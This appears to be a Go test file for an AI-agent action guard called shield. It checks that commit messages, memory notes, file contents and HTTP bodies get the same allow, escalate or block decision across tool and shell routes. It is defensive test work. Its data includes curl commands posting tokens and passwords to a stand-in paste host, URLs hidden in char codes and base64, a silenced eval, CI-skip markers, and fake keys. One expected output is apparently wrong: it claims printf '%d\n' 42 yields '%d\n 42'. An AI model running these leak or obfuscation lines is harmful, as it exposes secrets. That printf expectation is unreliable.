package shield_test

import (
	"context"
	"strings"
	"testing"

	"github.com/opx-dev/opx/shield"
)

// Rules 11, issue 27 pass 8: parity between routes. The same text must
// be judged the same whichever route carries it: a commit message given
// to git commit -m or to the git_commit tool; a memory note appended by
// memory_append, written by write_file, or appended by echo, tee or a
// here-doc; a file's content written by a file tool or by a redirect; a
// request body sent by http_request or by curl. Each text is judged
// through every route of its group and every route must reach the same
// decision class (allow, escalate, block).

// shq quotes s for a POSIX shell.
func shq(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

type parityRoute struct {
	name string
	make func(s *shield.Shield, text string) shield.Action
}

var commitRoutes = []parityRoute{
	{"git commit -m", func(_ *shield.Shield, t string) shield.Action { return command("git commit -m " + shq(t)) }},
	{"git_commit", func(s *shield.Shield, t string) shield.Action {
		return facts(s, "git_commit").write(".git").text("commit message", t).act()
	}},
}

var memoryRoutes = []parityRoute{
	{"memory_append", func(s *shield.Shield, t string) shield.Action {
		return facts(s, "memory_append").write("MEMORY.md").text("memory", t).act()
	}},
	{"write_file MEMORY.md", func(s *shield.Shield, t string) shield.Action {
		return facts(s, "write_file").content("MEMORY.md", t).act()
	}},
	{"echo >> MEMORY.md", func(_ *shield.Shield, t string) shield.Action { return command("echo " + shq(t) + " >> MEMORY.md") }},
	{"tee -a MEMORY.md", func(_ *shield.Shield, t string) shield.Action {
		return command("printf '%s\\n' " + shq(t) + " | tee -a MEMORY.md")
	}},
	{"here-doc MEMORY.md", func(_ *shield.Shield, t string) shield.Action {
		return command("cat >> MEMORY.md <<'EOF'\n" + t + "\nEOF")
	}},
}

var requestRoutes = []parityRoute{
	{"http_request body", func(s *shield.Shield, t string) shield.Action {
		return facts(s, "http_request").req("http_request", "paste.example.net", "POST", true).text("url", "https://paste.example.net/new").text("body", t).act()
	}},
	{"curl -d", func(_ *shield.Shield, t string) shield.Action {
		return command("curl -sS -X POST -d " + shq(t) + " https://paste.example.net/new")
	}},
}

func runParity(t *testing.T, routes []parityRoute, texts []struct{ name, text, want string }) {
	t.Helper()
	s := defaultShield(t)
	for _, c := range texts {
		t.Run(c.name, func(t *testing.T) {
			var got []string
			for _, r := range routes {
				v := judged(s.Evaluate(context.Background(), r.make(s, c.text)))
				got = append(got, r.name+"="+v.Decision+" "+v.Rule)
				if v.Decision != c.want {
					t.Errorf("%s: got %s %s (%s), want %s", r.name, v.Decision, v.Rule, v.Reason, c.want)
				}
			}
			if t.Failed() {
				t.Logf("routes: %s", strings.Join(got, "; "))
			}
		})
	}
}

func TestParity_CommitMessage(t *testing.T) {
	runParity(t, commitRoutes, []struct{ name, text, want string }{
		{"skip ci on a dependency bump (Go)", "deps: bump golang.org/x/net [skip ci]", "escalate"},
		{"ci skip (Python)", "[ci skip] poetry lock refresh", "escalate"},
		{"skip actions (Node)", "chore: update lockfile [skip actions]", "escalate"},
		{"azure pipelines", "build: pin toolchain ***NO_CI***", "escalate"},
		{"a secret in the message", "fix: use AKIAQWERTYUIOPASDFGH for the uploader", "escalate"},
		{"a customer's contact (Django)", "fix: invoice 4411 for l.moreau@example.fr (+33 6 12 34 56 78) had the wrong VAT", "escalate"},
		{"co-author trailer", "feat: retry uploads\n\nCo-authored-by: Kim Lee <kim.lee@example.com>", "allow"},
		{"plain message (Rust)", "fix(parser): handle empty tables in Cargo.toml", "allow"},
		{"message about CI", "ci: run the skip-list tests on every push", "allow"},
		{"message naming skip in prose", "docs: explain when to skip CI locally", "allow"},
	})
}

func TestParity_MemoryNote(t *testing.T) {
	runParity(t, memoryRoutes, []struct{ name, text, want string }{
		{"hex master key (Django)", "Django SECRET key (prod): 9c4e21b07f3ad8e6a15b2c9d0e7f4a3b", "block"},
		{"encryption key named with colon (Go)", "staging encryption key: 3f9a0c7e21d54b8896aa01c2e3f4d5b6", "block"},
		{"keystore password (Gradle)", "release keystore password = Kx-Store-2031!", "block"},
		{"vault pass (Terraform)", "terraform vault pass: Tf#Vault-99x", "block"},
		{"signing passphrase (GPG)", "gpg signing passphrase is correct-Horse-77", "block"},
		{"private key block", "deploy key:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----", "block"},
		{"customer contact list (Node)", "Customers to use in tests: maria.lopez@example.org +34 612 345 678; k.tanaka@example.jp +81 90 1234 5678; l.moreau@example.fr +33 6 12 34 56 78", "escalate"},
		{"fact about where keys live", "The Django secret key is read from DJANGO_SECRET_KEY in settings.py", "allow"},
		{"fact about a cache key", "cache key: prefix v2 then the tenant id", "allow"},
		{"fact about a commit", "Release 2.4 went out at commit 9c4e21b07f3ad8e6a15b2c9d0e7f4a3b1c2d3e4f", "allow"},
		{"one maintainer address", "Ask maintainers@example.org before changing the release script", "allow"},
		{"fact about the keystore", "The release keystore lives in the CI secret store, never in the repo", "allow"},
	})
}

func TestParity_RequestBody(t *testing.T) {
	runParity(t, requestRoutes, []struct{ name, text, want string }{
		{"a token in the body", "token=ghp_abcdefghijklmnopqrstuvwxyz0123456789", "block"},
		{"a password assignment", "DB_PASSWORD=Tr0ub4dor-and-3", "block"},
	})
}

// fileRoutes write a text into a workspace source file by a file tool, a
// redirect, tee and a here-doc.
func fileRoutes(rel string) []parityRoute {
	return []parityRoute{
		{"write_file", func(s *shield.Shield, t string) shield.Action {
			return facts(s, "write_file").content(rel, t).act()
		}},
		{"printf >", func(_ *shield.Shield, t string) shield.Action {
			return command("printf '%s\\n' " + shq(t) + " > " + rel)
		}},
		{"tee", func(_ *shield.Shield, t string) shield.Action {
			return command("printf '%s\\n' " + shq(t) + " | tee " + rel + " >/dev/null")
		}},
		{"here-doc", func(_ *shield.Shield, t string) shield.Action {
			return command("cat > " + rel + " <<'EOF'\n" + t + "\nEOF")
		}},
	}
}

func TestParity_FileContent(t *testing.T) {
	runParity(t, fileRoutes("src/telemetry/sink.js"), []struct{ name, text, want string }{
		{"url hidden in char codes (Node)", "const u = String.fromCharCode(104,116,116,112,115,58,47,47,116,46,101,120,97,109,112,108,101,46,105,111);", "escalate"},
		{"a security finding silenced", "const v = eval(input); // eslint-disable-line no-eval", "escalate"},
		{"plain code", "export const add = (a, b) => a + b;", "allow"},
	})
	runParity(t, fileRoutes("internal/config/keys.go"), []struct{ name, text, want string }{
		{"hard-coded token (Go)", "package config\n\nconst token = \"ghp_abcdefghijklmnopqrstuvwxyz0123456789\"", "escalate"},
		{"url in base64 (Go)", "package config\n\nvar sink = \"aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUtbWV0cmljcy5uZXQvdjI=\"", "escalate"},
		{"plain constant (Go)", "package config\n\nconst retries = 3", "allow"},
	})
}

// TestPrintfText: printf's output as redirects land it (the route's text
// must be what the file tool would write).
func TestPrintfText(t *testing.T) {
	s := defaultShield(t)
	for _, c := range []struct{ line, want string }{
		{`printf '%s\n' 'package x' > a.go`, "package x\n"},
		{`printf 'a=%s b=%b\n' '1\t' '2\t' > a.txt`, "a=1\\t b=2\t\n"},
		{`printf '%s,' x y z > a.txt`, "x,y,z,"},
		{`printf '100%%\n' > a.txt`, "100%\n"},
		{`printf '%d\n' 42 > a.txt`, "%d\n 42"},
	} {
		f := s.CommandFacts(c.line)
		if len(f.Texts) == 0 || f.Texts[0].Body != c.want {
			t.Errorf("%s: texts %q, want %q", c.line, f.Texts, c.want)
		}
	}
}
